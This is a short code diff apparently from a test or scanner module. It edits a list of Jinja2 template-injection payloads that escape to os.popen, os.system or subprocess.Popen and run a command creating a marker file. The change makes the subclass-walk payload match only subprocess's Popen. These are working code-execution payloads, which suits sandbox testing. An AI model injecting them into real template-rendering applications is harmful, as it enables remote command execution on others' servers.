@@ -31,7 +31,9 @@ def jinja_payloads(marker: Path) -> list[str]:
         f"{{{{ cycler.__init__.__globals__.os.popen('{touch}').read() }}}}",
         f"{{{{ lipsum.__globals__['os'].popen('{touch}').read() }}}}",
         f"{{{{ namespace.__init__.__globals__.os.system('{touch}') }}}}",
-        "{% for x in ().__class__.__base__.__subclasses__() %}{% if x.__name__ == 'Popen' %}"
+        # subprocess.Popen, not multiprocessing's Popen classes, which take other arguments
+        "{% for x in ().__class__.__base__.__subclasses__() %}"
+        "{% if x.__name__ == 'Popen' and x.__module__ == 'subprocess' %}"
         f"{{{{ x('{touch}', shell=True).wait() }}}}{{% endif %}}{{% endfor %}}",
     ]
 
